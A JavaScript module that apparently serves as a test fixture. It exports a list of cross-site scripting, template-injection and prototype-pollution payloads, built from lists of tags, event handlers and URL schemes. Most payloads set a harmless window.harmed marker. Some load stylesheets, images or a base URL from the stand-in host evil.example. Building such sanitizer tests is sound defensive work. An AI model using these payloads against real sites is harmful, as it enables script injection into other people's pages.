// Texts that have run as scripts where somebody put them into markup. Each would set `window.harmed`, open a dialog or load something.
const RUN = 'window.harmed=1';
const TAGS = ['script', 'svg', 'img', 'iframe', 'object', 'embed', 'math', 'video', 'audio', 'details', 'body', 'input', 'marquee', 'form', 'isindex', 'style', 'link', 'base', 'meta', 'template'];
const HANDLERS = ['onload', 'onerror', 'onclick', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onbegin', 'onpointerenter', 'onbeforeinput'];
const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'data:text/html,', 'data:text/html;base64,', 'vbscript:', 'blob:', 'filesystem:'];

export const INJECTIONS = [
  `<script>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>">`, `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<a href="javascript:${RUN}">here</a>`, `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`, `<style>@import 'http://evil.example/x.css'</style>`, `<link rel=stylesheet href=http://evil.example/x.css>`, `<base href="http://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `[[${RUN}]]`, `<!--#exec cmd="x"-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<!--><script>${RUN}</script>-->`,
  `\u202e<script>${RUN}</script>\u202c`, `<scr\u00adipt>${RUN}</scr\u00adipt>`, `＜script＞${RUN}＜/script＞`, `%3Cscript%3E${RUN}%3C/script%3E`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `[a](javascript:${RUN})`, `![a](http://evil.example/x.png)`, `https://evil.example/"onmouseover="${RUN}`, `https://evil.example/'><script>${RUN}</script>`, `http://a@b" onclick="${RUN}`,
  `expression(${RUN})`, `url(javascript:${RUN})`, `'-${RUN}-'`, `";${RUN}//`, `\`;${RUN};\``, `__proto__[harmed]=1`, `constructor.prototype.harmed=1`,
  ...TAGS.map((tag, index) => `<${tag} ${HANDLERS[index % HANDLERS.length]}=${RUN} src=x href=javascript:${RUN}>${RUN}</${tag}>`),
  ...HANDLERS.map((handler) => `" ${handler}="${RUN}" autofocus tabindex=1 x="`),
  ...HANDLERS.map((handler) => `<x ${handler.toUpperCase()}=${RUN} autofocus tabindex=1 contenteditable>x`),
  ...SCHEMES.map((scheme) => `${scheme}${RUN}`),
  ...SCHEMES.map((scheme) => `<a href="${scheme}${RUN}" target=_blank>${scheme}</a>`),
];
